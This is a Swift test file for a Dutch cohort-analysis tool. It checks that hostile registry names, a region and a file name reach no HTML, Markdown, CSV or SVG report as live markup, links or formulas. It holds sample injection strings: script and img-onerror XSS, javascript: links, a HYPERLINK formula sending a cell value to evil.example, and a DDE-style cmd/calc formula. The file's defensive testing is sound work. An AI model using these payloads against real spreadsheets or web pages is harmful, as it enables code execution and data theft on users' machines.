import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import XCTest
import RendementAnalysis
import RendementCohorts
import RendementCore
import RendementImport
import RendementReports
import RendementStore
import RendementSynth

/// Issue 15, "text from data is data", end to end: a generated population
/// whose registry names (and a region, and the clienten file's name) are
/// the injections of the issue, imported, matched, analysed and reported in
/// every format. No page may carry markup, a link or a formula that came
/// from the data; every table keeps its shape.
final class InjectionEndToEndTests: XCTestCase {
    /// Registry name -> hostile name (the largest houses, so they get pages and a place in the forest plot).
    static let renamed = [
        "Rotterdam-Rijnmond": "[klik](javascript:alert%28document.domain%29)",
        "Haaglanden": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
        "Amsterdam-Amstelland": "+31 <img src=https://evil.example/x.png onerror=alert(1)>",
        "Utrecht": "-Utrecht <script>alert(document.domain)</script>",
        "Fryslân": "@SUM(1+1)*cmd|' /C calc'!A0",
        "Midden-Brabant": "Midden\nBrabant | x",
        "Groningen": "Gro\rningen",
    ]
    static let hostileRegion = "<img src=x onerror=alert(2)>|Rotterdam"
    static let clientenFile = "=HYPERLINK(1) [klik](javascript:alert(3)).csv"

    /// Rewrites column `column` of a generated CSV file (fields without commas or quotes) through `rename`.
    private func rewrite(_ path: String, column: Int, _ rename: (String) -> String?) throws -> String {
        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
        var out = String(lines[0]) + "\n"
        for line in lines.dropFirst() {
            var fields = line.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
            if let name = rename(fields[column]) { fields[column] = Escaping.csv(name, guardFormulas: false) }
            out += fields.joined(separator: ",") + "\n"
        }
        return out
    }

    private func makeStore(_ dir: String) throws -> (Store, AnalysisRun.Results, MatchingRun.Report) {
        let truth = try SyntheticExtracts.generate(into: dir + "/data", options: SynthOptions(seed: 21, persons: 6000))
        let registry = try rewrite(dir + "/data/veiligheidshuizen.csv", column: 0) { Self.renamed[$0] }
        // One region renamed too (column 1 of the registry).
        let regions = registry.split(separator: "\n").enumerated().map { i, line -> String in
            i > 0 && line.contains(",Rotterdam,") ? line.replacingOccurrences(of: ",Rotterdam,", with: "," + Escaping.csv(Self.hostileRegion, guardFormulas: false) + ",") : String(line)
        }.joined(separator: "\n") + "\n"
        try regions.write(toFile: dir + "/data/veiligheidshuizen.csv", atomically: true, encoding: .utf8)
        try rewrite(dir + "/data/clienten.csv", column: 1) { Self.renamed[$0] }
            .write(toFile: dir + "/data/" + Self.clientenFile, atomically: true, encoding: .utf8)
        let store = try Store(path: dir + "/store.sqlite")
        for kind in [InputKind.veiligheidshuizen, .personen, .bvh, .hks, .clienten] {
            var options = ImportOptions()
            options.periodFrom = truth.periods[kind.rawValue].flatMap { Day(iso: $0[0]) }
            options.periodTo = truth.periods[kind.rawValue].flatMap { Day(iso: $0[1]) }
            let file = kind == .clienten ? Self.clientenFile : kind.rawValue + ".csv"
            let summary = try Importer(store: store, options: options).importFile(dir + "/data/" + file, kind: kind)
            if kind == .clienten { XCTAssertEqual(summary.rejectedByReason[.unknownVeiligheidshuis] ?? 0, 0, "every hostile name matched the registry") }
        }
        XCTAssertEqual(Set(try store.veiligheidshuizen().map(\.name)).intersection(Self.renamed.values).count, Self.renamed.count)
        let matching = try MatchingRun(settings: MatchingSettings(), toolVersion: "test").run(store: store)
        let results = try AnalysisRun(settings: AnalysisSettings(), toolVersion: "test").run(store: store)
        return (store, results, matching)
    }

    func testHostileNamesReachNoOutputAsMarkupLinkOrFormula() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("inject-\(UUID().uuidString)").path
        defer { if ProcessInfo.processInfo.environment["RENDEMENT_KEEP_INJECTION_SET"] == nil { try? FileManager.default.removeItem(atPath: dir) } }
        let (store, results, matching) = try makeStore(dir)
        var files = try AnalysisRun.write(results, to: dir + "/output")
        try BalanceTable.csv(matching.balance, minimumCell: 10).write(toFile: dir + "/output/balance.csv", atomically: true, encoding: .utf8)
        try BalanceTable.unmatchedCSV(matching.unmatchedByHouse, minimumCell: 1).write(toFile: dir + "/output/unmatched.csv", atomically: true, encoding: .utf8)
        files += [dir + "/output/balance.csv", dir + "/output/unmatched.csv"]
        let inputs = try ReportInputs.load(store: store, run: results.record.id, toolVersion: "test", runDate: Day(year: 2026, month: 11, day: 29)!)
        for language in ReportLanguage.allCases {
            try ReportSetWriter(inputs: inputs, language: language).write(to: dir + "/reports-\(language.rawValue)")
            files += try FileManager.default.subpathsOfDirectory(atPath: dir + "/reports-\(language.rawValue)").map { dir + "/reports-\(language.rawValue)/" + $0 }
        }
        let byType = Dictionary(grouping: files.filter { !$0.hasSuffix("/") }, by: { ($0 as NSString).pathExtension })
        XCTAssertGreaterThan(byType["html"]?.count ?? 0, 2 * Self.renamed.count)
        for file in byType["html"] ?? [] { try checkHTML(file, root: (file as NSString).deletingLastPathComponent) }
        for file in byType["md"] ?? [] { try checkMarkdown(file) }
        for file in byType["csv"] ?? [] { try checkCSV(file) }
        for file in byType["svg"] ?? [] { try checkSVG(file) }
        // The names are there, as the text they are.
        let overview = try String(contentsOfFile: dir + "/reports-nl/index.html", encoding: .utf8)
        XCTAssertTrue(overview.contains("\">[klik](javascript:alert%28document.domain%29)</a>"), "the linked name is shown literally")
        XCTAssertTrue(overview.contains("-Utrecht &lt;script&gt;alert(document.domain)&lt;/script&gt;"))
        XCTAssertTrue(overview.contains("&lt;img src=x onerror=alert(2)&gt;|Rotterdam"), "the region is shown literally")
        let houses = try String(contentsOfFile: dir + "/reports-nl/index-veiligheidshuizen.csv", encoding: .utf8)
        XCTAssertTrue(houses.contains("\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"klik\"\")\","))
        XCTAssertTrue(houses.contains("\n\"Gro\rningen\","), "a bare CR is quoted")
        let effects = try String(contentsOfFile: dir + "/output/effects.csv", encoding: .utf8)
        XCTAssertTrue(effects.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","))
        XCTAssertTrue(effects.contains(",\"'-Utrecht <script>alert(document.domain)</script>\","))
    }

    /// No tag, attribute or link from data: every tag is one the renderer
    /// writes, every href a page or table (CSV) of the set that exists.
    private func checkHTML(_ file: String, root: String) throws {
        let html = try String(contentsOfFile: file, encoding: .utf8)
        let lower = html.lowercased()
        for bad in ["<script", "<img", "href=\"javascript", "<iframe", "<object"] {
            XCTAssertFalse(lower.contains(bad), "\(file): \(bad)")
        }
        let tags = try NSRegularExpression(pattern: "<(/?)([a-zA-Z0-9!]+)").matches(in: html, range: NSRange(html.startIndex..., in: html))
            .map { String(html[Range($0.range(at: 2), in: html)!]).lowercased() }
        let allowed: Set<String> = ["!doctype", "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "ul", "li", "figure",
                                    "table", "thead", "tbody", "tr", "th", "td", "figcaption", "aside", "strong", "code", "a",
                                    "svg", "rect", "line", "text", "path", "polygon", "circle", "g"]
        XCTAssertEqual(Set(tags).subtracting(allowed), [], file)
        let hrefs = try NSRegularExpression(pattern: "href=\"([^\"]*)\"").matches(in: html, range: NSRange(html.startIndex..., in: html))
            .map { String(html[Range($0.range(at: 1), in: html)!]) }
        let folder = (file as NSString).deletingLastPathComponent
        for href in hrefs {
            let path = folder + "/" + (href.removingPercentEncoding ?? href)
            XCTAssertTrue((href.hasSuffix(".html") || href.hasSuffix(".csv")) && !href.contains(":") && FileManager.default.fileExists(atPath: path),
                          "\(file): link to \(href)")
        }
    }

    /// No raw `<`, links only to files of the set, and every table row as wide as its header.
    private func checkMarkdown(_ file: String) throws {
        let md = try String(contentsOfFile: file, encoding: .utf8)
        let lines = md.split(separator: "\n", omittingEmptySubsequences: false)
        var width: Int?
        for line in lines {
            var previous: Character = " ", pipes = 0, escaped = false
            for c in line {
                if c == "<" { XCTAssertEqual(previous, "\\", "\(file): raw < in \(line)") }
                if c == "|" && !escaped { pipes += 1 }
                escaped = c == "\\" && !escaped
                previous = c
            }
            if line.hasPrefix("|") {
                if width == nil { width = pipes }
                XCTAssertEqual(pipes, width, "\(file): a table row split or merged: \(line)")
            } else {
                width = nil
            }
        }
        let target = try NSRegularExpression(pattern: #"(?<!\\)\]\(([^)]*)\)"#)
        for m in target.matches(in: md, range: NSRange(md.startIndex..., in: md)) {
            let t = String(md[Range(m.range(at: 1), in: md)!])
            let path = (file as NSString).deletingLastPathComponent + "/" + (t.removingPercentEncoding ?? t)
            XCTAssertTrue(!t.contains(":") && FileManager.default.fileExists(atPath: path), "\(file): link to \(t)")
        }
    }

    /// RFC 4180 records of equal width; no cell starts a formula (OWASP's
    /// trigger characters) unless it is a plain number.
    private func checkCSV(_ file: String) throws {
        let s = Array(try String(contentsOfFile: file, encoding: .utf8).unicodeScalars)
        let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\n"]
        var records: [[String]] = [[]], field = "", quoted = false
        func end(newRecord: Bool) {
            if let first = field.unicodeScalars.first, triggers.contains(first), !Escaping.isPlainNumber(field) {
                XCTFail("\(file): a cell starts a formula: \(field.debugDescription)")
            }
            records[records.count - 1].append(field)
            field = ""
            if newRecord { records.append([]) }
        }
        var i = 0
        while i < s.count {
            let c = s[i]
            i += 1
            if quoted {
                if c != "\"" { field.unicodeScalars.append(c) } else if i < s.count, s[i] == "\"" { field.unicodeScalars.append(c); i += 1 } else { quoted = false }
                continue
            }
            switch c {
            case "\"": quoted = true
            case ",": end(newRecord: false)
            case "\n": end(newRecord: true)
            case "\r": XCTFail("\(file): a bare CR outside quotes")
            default: field.unicodeScalars.append(c)
            }
        }
        XCTAssertFalse(quoted, "\(file): unterminated quote")
        if records.last?.isEmpty == true { records.removeLast() }
        XCTAssertEqual(Set(records.map(\.count)).count, 1, "\(file): records of different widths")
    }

    private func checkSVG(_ file: String) throws {
        let parser = XMLParser(data: try Data(contentsOf: URL(fileURLWithPath: file)))
        XCTAssertTrue(parser.parse(), "\(file) is not well-formed")
    }
}
